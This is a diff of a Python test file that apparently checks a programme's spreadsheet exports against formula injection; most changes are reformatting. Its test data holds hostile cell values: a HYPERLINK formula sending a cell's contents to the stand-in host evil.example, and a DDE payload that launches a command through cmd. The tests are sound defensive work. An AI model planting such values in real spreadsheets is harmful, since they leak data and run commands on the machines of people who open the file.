@@ -5,6 +5,7 @@ A contract number `=HYPERLINK("http://evil.example/?"&B2,"详情")` or an enterp
 figures to another server. Each export is read back twice: by openpyxl (no cell is a formula) and
 as the raw XML of the .xlsx (no <f> element anywhere).
 """
+
 from __future__ import annotations
 
 import io
@@ -38,8 +39,12 @@ def formulas(content: bytes) -> list[str]:
 
 
 def texts(content: bytes) -> set:
-    return {c.value for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets
-            for line in sheet.iter_rows() for c in line}
+    return {
+        c.value
+        for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets
+        for line in sheet.iter_rows()
+        for c in line
+    }
 
 
 def test_a_formula_like_text_is_written_as_that_text_and_numbers_stay_numbers():
@@ -51,8 +56,8 @@ def test_a_formula_like_text_is_written_as_that_text_and_numbers_stay_numbers():
     assert formulas(content) == []
     line = next(openpyxl.load_workbook(io.BytesIO(content)).worksheets[0].iter_rows())
     # (XML itself reads a bare carriage return back as a line feed; the text is otherwise the same.)
-    assert [c.value for c in line[:len(HOSTILE)]] == [t.replace("\r", "\n") for t in HOSTILE]
-    assert [c.data_type for c in line[:len(HOSTILE)]] == ["s"] * len(HOSTILE)
+    assert [c.value for c in line[: len(HOSTILE)]] == [t.replace("\r", "\n") for t in HOSTILE]
+    assert [c.data_type for c in line[: len(HOSTILE)]] == ["s"] * len(HOSTILE)
     # Excel's quote prefix (a style, not a character of the text): editing the cell keeps it text.
     assert all(c.quotePrefix for c in line[:6]) and not line[6].quotePrefix
     assert line[-3].value == -12.5 and line[-3].data_type == "n" and line[-2].value == 3
@@ -87,7 +92,7 @@ def test_the_batch_and_sanctions_exports_carry_hostile_names_notes_and_reasons_a
     zone, finance = programme["zone"], programme["finance"]
     enterprises.create(zone, data(4, name=LINK))
     batch = lists.create_batch(zone)
-    lists.add_entry(zone, batch.id, uscc(4), "1000000.00", note="=HYPERLINK(\"http://evil.example\")")
+    lists.add_entry(zone, batch.id, uscc(4), "1000000.00", note='=HYPERLINK("http://evil.example")')
     flagged = enterprises.create(zone, data(5, name="=cmd|' /C calc'!A0"))
     sanctions.flag(finance, flagged, "@贷款逾期", date(2024, 6, 1))
 
@@ -95,7 +100,7 @@ def test_the_batch_and_sanctions_exports_carry_hostile_names_notes_and_reasons_a
     sanctions_file = spreadsheets.export_sanctions(finance)
 
     assert formulas(batch_file) == [] and formulas(sanctions_file) == []
-    assert {LINK, "=HYPERLINK(\"http://evil.example\")"} <= texts(batch_file)
+    assert {LINK, '=HYPERLINK("http://evil.example")'} <= texts(batch_file)
     assert {"=cmd|' /C calc'!A0", "@贷款逾期"} <= texts(sanctions_file)
 
 
